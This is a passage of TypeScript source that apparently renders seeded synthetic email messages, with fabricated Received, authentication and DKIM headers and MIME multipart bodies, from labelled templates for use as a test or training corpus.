      : Array.isArray(mail.to)
        ? (mail.to as Addr[])
        : [mail.to as Addr];
  const rcpt = to[0].address;
  const mailFrom = mail.returnPath === undefined ? mail.from.address : mail.returnPath;
  const received = new Date(date.getTime() + int(r, 2, 40) * 1000);

  const lines: string[] = [];
  if (mailFrom !== null) lines.push(`Return-Path: <${mailFrom}>`);
  lines.push(
    `Received: from ${helo} (${relay.host} [${relay.ip}])\r\n\tby mx.corp.example (Postfix) with ESMTPS id ${upper(r, 12)}\r\n\tfor <${rcpt}>; ${rfcDate(received, cetOffset(received))}`,
  );
  const selector = pick(r, ['selector1', 's1', 'k1', 'google', 'mail', `s${int(r, 2020, 2025)}`, 'dkim']);
  if (mail.auth !== null)
    lines.push(authResults(r, mail.auth ?? PASS, fromDomain, mailFrom ?? '', relay.ip, selector));
  const a = mail.auth === null ? undefined : (mail.auth ?? PASS);
  if (a && a.dkim !== 'none')
    lines.push(
      `DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=${a.dkimDomain ?? fromDomain};\r\n\ts=${selector}; t=${Math.floor(date.getTime() / 1000)};\r\n\th=from:to:subject:date:message-id:mime-version:content-type;\r\n\tbh=${b64ish(r, 43)}=;\r\n\tb=${b64ish(r, 70)}\r\n\t ${b64ish(r, 70)}==`,
    );
  lines.push(`From: ${formatAddr(mail.from, hcs, mode)}`);
  if (mail.replyTo) lines.push(`Reply-To: ${formatAddr(mail.replyTo, hcs, mode)}`);
  lines.push(`To: ${addrList(to, hcs, mode)}`);
  if (mail.cc?.length) lines.push(`Cc: ${addrList(mail.cc, hcs, mode)}`);
  lines.push(headerText('Subject', mail.subject, hcs, mode));
  lines.push(`Date: ${rfcDate(date, tz)}`);
  lines.push(`Message-ID: ${shape.messageId}`);
  if (mail.inReplyTo) lines.push(`In-Reply-To: ${mail.inReplyTo}`);
  if (mail.references?.length) lines.push(`References: ${mail.references.join('\r\n ')}`);
  for (const [k, v] of mail.headers ?? [])
    lines.push(isAscii(v) ? `${k}: ${v}` : headerText(k, v, 'utf-8', mode));
  for (const e of shape.extra) if (!(mail.headers ?? []).some(([k]) => e.startsWith(`${k}:`))) lines.push(e);
  if (mail.lang && chance(r, 0.5))
    lines.push(
      `Content-Language: ${mail.lang === 'en' ? 'en-US' : mail.lang === 'no' ? 'nb-NO' : mail.lang}`,
    );
  lines.push('MIME-Version: 1.0');

  const textNode = mail.text !== undefined ? leaf('text/plain', mail.text, charset, encoding) : undefined;
  const html =
    charset === 'utf-8' ? mail.html : mail.html?.replace(/charset=("?)utf-8/gi, `charset=$1${charset}`);
  const htmlNode = html !== undefined ? leaf('text/html', html, charset, encoding) : undefined;
  const inline = (mail.attachments ?? []).filter((x) => x.cid);
  const attached = (mail.attachments ?? []).filter((x) => !x.cid);
  let htmlPart = htmlNode;
  if (htmlNode && inline.length)
    htmlPart = multipart('related', shape.boundary(), [htmlNode, ...inline.map((x) => attachmentNode(r, x))]);
  let bodyNode: Node;
  if (textNode && htmlPart) bodyNode = multipart('alternative', shape.boundary(), [textNode, htmlPart]);
  else bodyNode = htmlPart ?? textNode ?? leaf('text/plain', '', charset, '8bit');
  if (!htmlNode && inline.length) attached.push(...inline.map((x) => ({ ...x, cid: undefined })));
  if (attached.length)
    bodyNode = multipart('mixed', shape.boundary(), [bodyNode, ...attached.map((x) => attachmentNode(r, x))]);
  lines.push(...bodyNode.headers, '', bodyNode.body);
  return lines.join('\r\n');
}

// ---------------------------------------------------------------------------------------------------------
// Running templates

export interface Template {
  kind: string;
  name: string;
  make(r: SeededRandom): Mail | Promise<Mail>;
}

function hashString(s: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 0x01000193);
  return h >>> 0;
}

/** A fixed integer hash of the seed, the template (by its kind and name) and the draw's index. */
export function mix(seed: number, t: Template, i: number): number {
  let h = Math.imul((seed >>> 0) ^ 0x9e3779b9, 0x85ebca6b);
  h = Math.imul(h ^ hashString(`${t.kind}/${t.name}`), 0xc2b2ae35);
  h = Math.imul(h ^ (i + 0x27d4eb2f), 0x165667b1);
  h ^= h >>> 15;
  h = Math.imul(h, 0x2c1b3c6d);
  h ^= h >>> 13;
  return h >>> 0;
}

export async function runTemplates(
  templates: readonly Template[],
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  const out: { raw: string; kind: string; template: string }[] = [];
  for (const t of templates)
    for (let i = 0; i < perTemplate; i++) {
      const r = seededRandom(mix(seed, t, i));
      const raw = render(r, await t.make(r));
      out.push({ raw, kind: t.kind, template: t.name });
    }
  return out;
}
